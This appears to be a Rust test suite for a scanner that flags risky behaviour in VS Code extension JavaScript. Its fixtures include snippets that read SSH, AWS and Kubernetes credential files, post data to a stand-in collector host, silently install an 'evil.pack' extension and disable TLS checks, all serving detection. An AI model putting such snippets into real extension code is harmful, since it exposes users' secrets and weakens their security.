use super::*;
use crate::js::{ImportBinding, NodeKind};
use proptest::prelude::*;

fn subject() -> ExtensionIdentity {
    ExtensionIdentity::new("pub", "ext", "1.0.0").unwrap()
}

fn scan(src: &str) -> Vec<Finding> {
    scan_file("out/extension.js", src.len() as u64, Some(src.as_bytes()), &RuleSet::default(), &subject()).0
}

fn ids(findings: &[Finding]) -> Vec<&'static str> {
    let mut v: Vec<_> = findings.iter().map(|f| f.rule_id.as_str()).collect();
    v.sort();
    v
}

fn refs(src: &str) -> Vec<(String, u32, bool)> {
    let tree = js::parse(src).unwrap();
    resolve_api_references(&tree, &["vscode".to_string()])
        .into_iter()
        .map(|r| (r.namespace_path.join("."), r.call_site.line, r.via_alias))
        .collect()
}

/// Line numbers of `marker` in `src`, found by plain text search.
fn marker_lines(src: &str, marker: &str) -> Vec<u32> {
    src.lines().enumerate().filter(|(_, l)| l.contains(marker)).map(|(i, _)| i as u32 + 1).collect()
}

fn assert_location_fidelity(src: &str, findings: &[Finding]) {
    let lines: Vec<&str> = src.lines().collect();
    for f in findings {
        let Some(loc) = &f.location else { continue };
        if loc.line == 0 {
            continue;
        }
        let text = lines[loc.line as usize - 1];
        assert!(text.contains(&f.evidence), "{}: line {} `{}` lacks `{}`", f.rule_id, loc.line, text, f.evidence);
    }
}

#[test]
fn default_ruleset_is_valid_and_covers_the_api_table() {
    let r = RuleSet::default();
    r.validate().unwrap();
    assert_eq!(r.api_watchlist.len(), 12);
    let env_row = r.api_watchlist.iter().find(|a| a.rule_id == RuleId::SrcApiEnvIdentity).unwrap();
    assert_eq!(env_row.patterns.len(), 6);
    let mut dup = r.clone();
    dup.pattern_rules.push(dup.pattern_rules[0].clone());
    assert!(matches!(dup.validate(), Err(RuleSetError::DuplicateRule(_))));
}

#[test]
fn parse_source_builds_import_and_call() {
    let src = "const v = require('vscode'); v.window.createTerminal({hideFromUser:true})";
    let unit = parse_source("a.js", src.as_bytes(), DEFAULT_MAX_PARSE_BYTES).unwrap();
    let tree = unit.tree.unwrap();
    let import = tree.nodes.iter().find_map(|n| match &n.kind {
        NodeKind::ImportLike { module, bindings } => Some((module.clone(), bindings.clone())),
        _ => None,
    });
    assert_eq!(import, Some(("vscode".to_string(), vec![ImportBinding::Namespace("v".into())])));
    let call = tree
        .nodes
        .iter()
        .find_map(|n| match &n.kind {
            NodeKind::Call { callee, args, .. } if tree.member_chain(*callee).is_some_and(|(_, p)| p.len() == 2) => {
                Some((tree.member_chain(*callee).unwrap().1, args.clone()))
            }
            _ => None,
        })
        .unwrap();
    assert_eq!(call.0, vec!["window", "createTerminal"]);
    assert!(matches!(tree.node(call.1[0]).kind, NodeKind::ObjectLiteral { .. }));
}

#[test]
fn empty_file_has_empty_tree_and_no_findings() {
    let unit = parse_source("a.js", b"", DEFAULT_MAX_PARSE_BYTES).unwrap();
    assert!(unit.tree.unwrap().is_empty());
    assert!(scan("").is_empty());
}

#[test]
fn oversized_file_is_skipped() {
    let rules = RuleSet { max_parse_bytes: 4, ..RuleSet::default() };
    assert!(matches!(parse_source("a.js", b"12345", 4), Err(SourceError::FileTooLarge { .. })));
    let (f, st) = scan_file("a.js", 5, Some(b"12345"), &rules, &subject());
    assert_eq!(ids(&f), vec!["SRC-SKIPPED"]);
    assert_eq!(st.outcome, FileOutcome::Skipped);
    let (f, _) = scan_file("b.js", 10, None, &RuleSet::default(), &subject());
    assert_eq!(ids(&f), vec!["SRC-SKIPPED"]);
}

#[test]
fn namespace_import_reference() {
    assert_eq!(
        refs("import * as vs from 'vscode'; vs.env.clipboard.readText()"),
        vec![("env.clipboard.readText".to_string(), 1, false)]
    );
}

#[test]
fn unrooted_names_are_ignored() {
    assert!(refs("window.activeTextEditor; const e = window.activeTextEditor.document;").is_empty());
    assert!(scan("window.activeTextEditor.edit(() => {}); commands.executeCommand('workbench.extensions.installExtension', 'a.b')").is_empty());
}

/// Hand-labeled fixture: each line marked `// ref <path>` holds exactly one
/// reference with that path.
const ALIAS_FIXTURE: &str = r#"
const vscode = require("vscode");
const vscode_1 = __importStar(require("vscode"));
const def = __importDefault(require("vscode"));
import * as ns from "vscode";
import { window as win, env } from "vscode";
const { workspace } = require("vscode");
const { env: { clipboard } } = require("vscode");
vscode.window.showInformationMessage("x"); // ref window.showInformationMessage
vscode_1.workspace.findFiles("**"); // ref workspace.findFiles
(0, vscode_1.env.openExternal)(u); // ref env.openExternal
def.default.window.activeTextEditor; // ref window.activeTextEditor
ns.authentication.getSession("github", []); // ref authentication.getSession
win.createTerminal("t"); // ref window.createTerminal
env.machineId; // ref env.machineId
workspace.fs.readFile(u); // ref workspace.fs.readFile
clipboard.readText(); // ref env.clipboard.readText
function f() { const w = vscode.window; // ref window
  return w.createWebviewPanel("a", "b", 1); // ref window.createWebviewPanel
}
vscode["extensions"].getExtension("a.b"); // ref extensions.getExtension
"#;

#[test]
fn alias_fixture_recovers_exactly_the_labeled_references() {
    let mut expected: Vec<(String, u32)> = ALIAS_FIXTURE
        .lines()
        .enumerate()
        .filter_map(|(i, l)| l.split("// ref ").nth(1).map(|p| (p.trim().to_string(), i as u32 + 1)))
        .collect();
    assert_eq!(expected.len(), 12);
    let mut got: Vec<(String, u32)> = refs(ALIAS_FIXTURE).into_iter().map(|(p, l, _)| (p, l)).collect();
    expected.sort();
    got.sort();
    assert_eq!(got, expected);
}

#[test]
fn alias_hops_are_marked() {
    let r = refs("const v = require('vscode'); const w = v.window; const t = w.createTerminal; t(); v.window.x;");
    let t_call = r.iter().find(|(p, _, a)| p == "window.createTerminal" && *a).cloned();
    assert!(t_call.is_some(), "{r:?}");
    // Three hops away is out of reach.
    let deep = refs("const v = require('vscode'); const a = v.env; const b = a.clipboard; const c = b.readText; const d = c; d.call();");
    assert!(deep.iter().all(|(p, _, _)| p != "env.clipboard.readText.call"), "{deep:?}");
}

#[test]
fn env_identity_is_medium() {
    let f = scan("const vscode = require('vscode'); send(vscode.env.machineId);");
    assert_eq!(ids(&f), vec!["SRC-API-ENV-IDENTITY"]);
    assert_eq!(f[0].severity, Severity::Medium);
    assert_eq!(f[0].metadata["count"], "1");
}

#[test]
fn no_refs_no_api_findings() {
    let unit = parse_source("a.js", b"", 10).unwrap();
    let lines = LineIndex::new("");
    assert!(detect_api_usage(&[], &RuleSet::default(), &subject(), &unit, &lines).is_empty());
}

const ALL_API_ROWS: &str = r#"const vscode = require("vscode");
vscode.workspace.fs.stat(u);
vscode.workspace.createFileSystemWatcher("**/*");
vscode.workspace.applyEdit(edit);
vscode.workspace.findFiles("**/.env");
const ed = vscode.window.activeTextEditor;
vscode.window.createTerminal("t");
vscode.window.createWebviewPanel("v", "V", 1, {});
vscode.authentication.getSession("github", ["repo"]);
vscode.extensions.getExtension("ms-python.python");
vscode.env.openExternal(vscode.Uri.parse(url));
vscode.env.clipboard.writeText(s);
post(vscode.env.sessionId, vscode.env.appRoot);
"#;

#[test]
fn all_twelve_rows_fire_once_each() {
    let f = scan(ALL_API_ROWS);
    assert_eq!(f.len(), 12, "{:?}", ids(&f));
    let got: std::collections::BTreeSet<_> = f.iter().map(|x| x.rule_id).collect();
    let want: std::collections::BTreeSet<_> = RuleSet::default().api_watchlist.iter().map(|r| r.rule_id).collect();
    assert_eq!(got, want);
    let env = f.iter().find(|x| x.rule_id == RuleId::SrcApiEnvIdentity).unwrap();
    assert_eq!(env.metadata["count"], "2");
    assert_location_fidelity(ALL_API_ROWS, &f);
}

#[test]
fn tls_disable_at_its_line() {
    let src = "function go() {\n  process.env.NODE_TLS_REJECT_UNAUTHORIZED = 0;\n}\n";
    let f = scan(src);
    assert_eq!(ids(&f), vec!["SRC-TLS-DISABLE"]);
    let loc = f[0].location.as_ref().unwrap();
    assert_eq!((loc.path.as_str(), loc.line, loc.column), ("out/extension.js", 2, 3));
    assert_eq!(f[0].severity, Severity::Critical);
    assert_eq!(f[0].evidence, "process.env.NODE_TLS_REJECT_UNAUTHORIZED = 0;");
    assert!(scan("process.env.NODE_TLS_REJECT_UNAUTHORIZED = 1;").is_empty());
}

const HELLO_WORLD: &str = r#""use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.deactivate = exports.activate = void 0;
const vscode = require("vscode");
function activate(context) {
    console.log('Congratulations, your extension "helloworld" is now active!');
    let disposable = vscode.commands.registerCommand("helloworld.helloWorld", () => {
        vscode.window.showInformationMessage("Hello World from HelloWorld!");
    });
    context.subscriptions.push(disposable);
}
exports.activate = activate;
function deactivate() { }
exports.deactivate = deactivate;
//# sourceMappingURL=extension.js.map
"#;

#[test]
fn hello_world_is_clean() {
    assert!(scan(HELLO_WORLD).is_empty());
}

/// One file per structural rule; the triggering line carries `/*!RULE*/`.
pub(crate) const PATTERN_FILES: [(&str, &str); 8] = [
    ("tls.js", "const x = 1;\nprocess.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0'; /*!SRC-TLS-DISABLE*/\n"),
    (
        "install.js",
        "const vscode = require('vscode');\nasync function f() {\n  await vscode.commands.executeCommand('workbench.extensions.installExtension', 'evil.pack'); /*!SRC-SILENT-INSTALL*/\n}\n",
    ),
    (
        "terminal.js",
        "const { window } = require('vscode');\nconst opts = { name: 'x', hideFromUser: true };\nconst t = window.createTerminal(opts); /*!SRC-HIDDEN-TERMINAL*/\n",
    ),
    (
        "keys.js",
        "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst data = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); /*!SRC-CRITICAL-FILE*/\n",
    ),
    (
        "settings.js",
        "const vscode = require('vscode');\nconst cfg = vscode.workspace.getConfiguration('http');\ncfg.update('proxyStrictSSL', false, true); /*!SRC-SETTINGS-MUTATION*/\n",
    ),
    (
        "proxy.js",
        "const http = require('http');\nconst server = http.createServer((req, res) => res.end()); /*!SRC-LOCAL-PROXY*/\nserver.listen(8080);\n",
    ),
    (
        "net.js",
        "const axios_1 = __importDefault(require('axios'));\nasync function send(d) {\n  await axios_1.default.post('https://collector.test/x', d); /*!SRC-NET-CALL*/\n  await axios_1.default.get('https://collector.test/y');\n}\n",
    ),
    (
        "extdir.js",
        "const os = require('os');\nconst dir = os.homedir() + '/.vscode/extensions'; /*!SRC-EXT-DIR-ACCESS*/\n",
    ),
];

#[test]
fn each_pattern_fires_exactly_once_at_its_marker() {
    let mut all = Vec::new();
    for (name, src) in PATTERN_FILES {
        let (f, st) = scan_file(name, src.len() as u64, Some(src.as_bytes()), &RuleSet::default(), &subject());
        assert_eq!(st.outcome, FileOutcome::Parsed, "{name}");
        // Files that touch the editor API also raise API rows; keep patterns only.
        let f: Vec<_> = f.into_iter().filter(|x| !x.rule_id.as_str().starts_with("SRC-API-")).collect();
        assert_eq!(f.len(), 1, "{name}: {:?}", ids(&f));
        let marker = src.split("/*!").nth(1).unwrap().split("*/").next().unwrap();
        assert_eq!(f[0].rule_id.as_str(), marker);
        assert_eq!(f[0].location.as_ref().unwrap().line, marker_lines(src, "/*!")[0], "{name}");
        assert_eq!(f[0].location.as_ref().unwrap().path, name);
        assert_location_fidelity(src, &f);
        all.extend(f);
    }
    assert_eq!(all.len(), 8);
    let install = all.iter().find(|f| f.rule_id == RuleId::SrcSilentInstall).unwrap();
    assert_eq!(install.metadata["target"], "evil.pack");
    let net = all.iter().find(|f| f.rule_id == RuleId::SrcNetCall).unwrap();
    assert_eq!((net.metadata["module"].as_str(), net.metadata["count"].as_str()), ("axios", "2"));
}

/// Direct and aliased spellings of each pattern.
const SPELLINGS: [(&str, &str, &str); 8] = [
    (
        "SRC-TLS-DISABLE",
        "process.env.NODE_TLS_REJECT_UNAUTHORIZED = 0;",
        "const e = process.env; e.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
    ),
    (
        "SRC-SILENT-INSTALL",
        "const vscode = require('vscode'); vscode.commands.executeCommand('workbench.extensions.installExtension', 'a.b');",
        "const { commands } = require('vscode'); const id = 'workbench.extensions.installExtension'; commands.executeCommand(id, 'a.b');",
    ),
    (
        "SRC-HIDDEN-TERMINAL",
        "const vscode = require('vscode'); vscode.window.createTerminal({ hideFromUser: true });",
        "import * as vs from 'vscode'; const w = vs.window; w.createTerminal({ name: 'n', hideUser: 1 });",
    ),
    (
        "SRC-CRITICAL-FILE",
        "require('fs').readFile('/home/u/.aws/credentials', cb);",
        "const { readFileSync } = require('fs'); const p = `${home}/.kube/config`; readFileSync(p);",
    ),
    (
        "SRC-SETTINGS-MUTATION",
        "const vscode = require('vscode'); vscode.workspace.getConfiguration().update('a', 1);",
        "const fs = require('fs'); fs.writeFileSync(dir + '/User/settings.json', data);",
    ),
    (
        "SRC-LOCAL-PROXY",
        "require('net').createServer(s => s).listen(1080);",
        "import { createServer } from 'node:http'; createServer(handler);",
    ),
    (
        "SRC-NET-CALL",
        "const fetch = require('node-fetch'); fetch(url);",
        "const got_1 = require('got'); const g = got_1.default; g.post(url);",
    ),
    (
        "SRC-EXT-DIR-ACCESS",
        "const p = '~/.vscode/extensions';",
        "const path = require('path'); const p = path.join(home, '.vscode', 'extensions');",
    ),
];

#[test]
fn alias_invariance() {
    for (rule, direct, aliased) in SPELLINGS {
        for src in [direct, aliased] {
            let f: Vec<_> = scan(src).into_iter().filter(|x| !x.rule_id.as_str().starts_with("SRC-API-")).collect();
            assert_eq!(ids(&f), vec![rule], "{src}");
        }
    }
}

#[test]
fn silent_install_variants() {
    let maybe = scan("const vscode = require('vscode'); vscode.commands.executeCommand(cmd, 'x');");
    assert_eq!(ids(&maybe), vec!["SRC-SILENT-INSTALL-MAYBE"]);
    assert!(scan("const vscode = require('vscode'); vscode.commands.executeCommand('workbench.action.reloadWindow');").is_empty());
}

#[test]
fn unparseable_file_uses_fallback() {
    let src = "var a = ;\nprocess.env.NODE_TLS_REJECT_UNAUTHORIZED=\"0\"\nx('workbench.extensions.installExtension', 'p.q')\nread('~/.ssh/id_rsa')\n";
    let f = scan(src);
    assert_eq!(ids(&f), vec!["SRC-CRITICAL-FILE", "SRC-CRITICAL-FILE", "SRC-SILENT-INSTALL", "SRC-TLS-DISABLE", "SRC-UNPARSEABLE"]);
    assert!(f.iter().all(|x| x.rule_id == RuleId::SrcUnparseable || x.metadata["mode"] == "fallback"));
    let install = f.iter().find(|x| x.rule_id == RuleId::SrcSilentInstall).unwrap();
    assert_eq!(install.metadata["target"], "p.q");
    assert_location_fidelity(src, &f);
}

#[test]
fn lossy_decode_is_flagged() {
    let (f, st) = scan_file("a.js", 3, Some(b"x\xff;"), &RuleSet::default(), &subject());
    assert!(st.lossy);
    assert!(ids(&f).contains(&"SRC-LOSSY-DECODE"));
}

#[test]
fn disabled_rule_is_silent_and_severity_override_applies() {
    let mut rules = RuleSet::default();
    rules.pattern_rules.iter_mut().find(|r| r.rule_id == RuleId::SrcTlsDisable).unwrap().enabled = false;
    let src = "process.env.NODE_TLS_REJECT_UNAUTHORIZED = 0; const p = '.vscode/extensions';";
    let (f, _) = scan_file("a.js", 0, Some(src.as_bytes()), &rules, &subject());
    assert_eq!(ids(&f), vec!["SRC-EXT-DIR-ACCESS"]);
    rules.pattern_rules.iter_mut().find(|r| r.rule_id == RuleId::SrcExtDirAccess).unwrap().severity = Severity::Low;
    let (f, _) = scan_file("a.js", 0, Some(src.as_bytes()), &rules, &subject());
    assert_eq!(f[0].severity, Severity::Low);
}

#[test]
fn package_names() {
    assert_eq!(package_of("axios/lib/core"), "axios");
    assert_eq!(package_of("@scope/pkg/sub"), "@scope/pkg");
    assert_eq!(package_of("node:http"), "http");
    assert_eq!(package_of("@solo"), "@solo");
}

#[test]
fn critical_fragments_in_joined_paths() {
    let w: Vec<String> = DEFAULT_CRITICAL_PATHS.iter().map(|s| s.to_string()).collect();
    assert_eq!(critical_fragment(&[".docker".into(), "config.json".into()], &w).as_deref(), Some(".docker/config.json"));
    assert_eq!(critical_fragment(&["README.md".into()], &w), None);
    assert_eq!(critical_fragment(&[], &w), None);
}

fn js_soup() -> impl Strategy<Value = String> {
    let atoms = prop::sample::select(vec![
        "vscode", "require('vscode')", ".", "(", ")", "{", "}", "[", "]", "=", "=>", ",", ";", "'a'", "`x${", "}`", "0",
        "process.env.NODE_TLS_REJECT_UNAUTHORIZED", "const ", "function ", "\n", "/", "+", "?.", "new ", "x", "createTerminal",
        "'.ssh/id_rsa'", "readFile", "...", ":", "?", "import ", "from ", "/*", "*/", "//", "\"", "\\",
    ]);
    prop::collection::vec(atoms, 0..60).prop_map(|v| v.concat())
}

proptest! {
    #[test]
    fn scan_never_panics_on_bytes(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        let (f, st) = scan_file("x.js", bytes.len() as u64, Some(&bytes), &RuleSet::default(), &subject());
        prop_assert_eq!(st.findings, f.len());
    }

    #[test]
    fn scan_never_panics_on_token_soup(src in js_soup()) {
        let f = scan(&src);
        assert_location_fidelity(&src, &f);
    }

    #[test]
    fn scan_is_deterministic(src in js_soup()) {
        prop_assert_eq!(scan(&src), scan(&src));
    }
}
